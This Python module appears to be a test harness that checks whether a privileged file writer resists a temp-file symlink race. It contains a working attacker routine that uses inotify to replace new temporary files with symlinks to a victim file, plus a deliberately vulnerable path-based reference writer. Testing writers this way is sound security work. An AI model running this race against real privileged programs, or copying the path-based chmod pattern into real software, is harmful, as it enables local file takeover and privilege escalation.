"""The temp-swap race: an attacker who owns the folder a privileged writer writes into replaces every new
file (the writer's temporary file) with a symbolic link to a victim file, between the writer's create and its
chmod/chown/rename. With descriptor-based writes (fchmod/fchown on the open descriptor, O_EXCL|O_NOFOLLOW
create) the victim never changes; a path-based chmod/chown follows the planted link.

The attacker is a forked child that drops to the attacker's uid/gid and watches the folders with inotify
(ctypes on libc, nothing to install). The parent runs the privileged command over and over and checks the
victim's mode, owner, inode and content after each try.
"""

import ctypes
import ctypes.util
import hashlib
import os
import signal
import stat
import struct
import subprocess
import sys
import time

IN_CREATE = 0x00000100
IN_MOVED_TO = 0x00000080
IN_NONBLOCK = 0o4000
_EVENT = struct.Struct("iIII")

_libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
_libc.inotify_init1.argtypes = [ctypes.c_int]
_libc.inotify_add_watch.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_uint32]


def _inotify(folders):
    fd = _libc.inotify_init1(0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    watches = {}
    for folder in folders:
        # Only creations: a temporary file is created; the final name appears by rename (IN_MOVED_TO) and is left alone.
        wd = _libc.inotify_add_watch(fd, os.fsencode(folder), IN_CREATE)
        if wd < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch " + folder)
        watches[wd] = folder
    return fd, watches


def _attacker(folders, keep, victim, uid, gid, report_fd):
    """Runs in the child: swap every new entry of the folders (except the names in keep) for a link to victim."""
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    fd, watches = _inotify(folders)
    os.write(report_fd, b"R")  # ready
    swaps = 0
    target = os.fsencode(victim)

    def stop(*_):
        os.write(report_fd, b"%d\n" % swaps)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    while True:
        data = os.read(fd, 65536)
        offset = 0
        while offset < len(data):
            wd, mask, _cookie, length = _EVENT.unpack_from(data, offset)
            name = data[offset + _EVENT.size: offset + _EVENT.size + length].rstrip(b"\0")
            offset += _EVENT.size + length
            if not name or name in keep:
                continue
            path = os.path.join(os.fsencode(watches[wd]), name)
            try:
                if os.readlink(path) == target:
                    continue  # the attacker's own link (its creation is an IN_CREATE event too)
            except OSError:
                pass
            try:
                os.unlink(path)
                os.symlink(target, path)
                swaps += 1
            except OSError:
                pass


def victim_state(path):
    st = os.lstat(path)
    with open(path, "rb") as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    return (st.st_mode, st.st_uid, st.st_gid, st.st_ino, st.st_nlink, digest)


def make_victim(path, owner=(0, 0), content=b"private victim: must never change\n"):
    if os.path.lexists(path):
        os.unlink(path)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.write(fd, content)
    os.fchmod(fd, 0o600)
    os.fchown(fd, *owner)
    os.close(fd)
    return victim_state(path)


def race(command, reset, folders, keep, victim, uid, gid, tries, env=None, timeout=10, stdin=b"wso2carbon\n",
         victim_owner=(0, 0), run_as=None):
    """Runs command `tries` times (as run_as = (uid, gid, groups), default the caller) with reset() before each;
    the victim is owned by victim_owner; returns (tries, swaps, wins, failures, details)."""
    expected = make_victim(victim, victim_owner)
    spawn = {} if run_as is None else {"user": run_as[0], "group": run_as[1], "extra_groups": run_as[2]}
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            _attacker(folders, {os.fsencode(k) for k in keep}, victim, uid, gid, w)
        except BaseException as e:  # noqa: BLE001 - report and leave
            sys.stderr.write("racer: attacker failed: %r\n" % (e,))
        os._exit(1)
    os.close(w)
    if os.read(r, 1) != b"R":
        os.waitpid(pid, 0)
        raise RuntimeError("the attacker process did not start")

    wins, failures, details = 0, 0, []
    try:
        for i in range(tries):
            time.sleep(0.01)  # let the attacker finish a late swap before the folder is reset
            reset()
            if callable(command):
                # An in-process writer (the self-test): forked, so no interpreter start-up per try.
                child = os.fork()
                if child == 0:
                    try:
                        command()
                        os._exit(0)
                    except BaseException:  # noqa: BLE001 - the exit code says it
                        os._exit(1)
                if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) != 0:
                    failures += 1
            else:
                try:
                    proc = subprocess.run(command, env=env, input=stdin, capture_output=True, timeout=timeout, cwd="/", **spawn)
                    if proc.returncode != 0:
                        failures += 1
                except subprocess.TimeoutExpired:
                    failures += 1
            state = victim_state(victim) if os.path.lexists(victim) else None
            if state != expected:
                wins += 1
                if len(details) < 3:
                    details.append("try %d: victim %s -> %s" % (i + 1, _show(expected), _show(state)))
                expected = make_victim(victim, victim_owner)
    finally:
        os.kill(pid, signal.SIGTERM)
        swaps = int((os.read(r, 64).strip() or b"0"))
        os.close(r)
        os.waitpid(pid, 0)
    return tries, swaps, wins, failures, details


def _show(state):
    if state is None:
        return "missing"
    mode, uid, gid, ino, nlink, digest = state
    return "mode %o uid %d gid %d ino %d nlink %d sha %s" % (mode & 0o7777, uid, gid, ino, nlink, digest[:8])


def write(kind, target, content):
    """Reference writers for the suite's self-test: 'path' chmods the temporary file by name (as the old
    AtomicFile did), 'descriptor' creates it O_EXCL|O_NOFOLLOW and fchmods the descriptor. Both then rename."""
    folder, name = os.path.split(target)
    temp = os.path.join(folder, ".%s.%d.tmp" % (name, os.getpid()))
    mode = stat.S_IMODE(os.stat(target).st_mode)
    if kind == "path":
        fd = os.open(temp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        os.write(fd, content)
        os.fsync(fd)
        os.close(fd)
        os.chmod(temp, mode)
    else:
        fd = os.open(temp, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o600)
        os.write(fd, content)
        os.fchmod(fd, mode)
        os.fsync(fd)
        os.close(fd)
    os.rename(temp, target)


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "write" and sys.argv[2] in ("path", "descriptor"):
        write(sys.argv[2], sys.argv[3], sys.stdin.buffer.read())
        sys.exit(0)
    sys.exit("usage: racer.py write path|descriptor TARGET < content (the self-test writers; cases.py drives the race)")
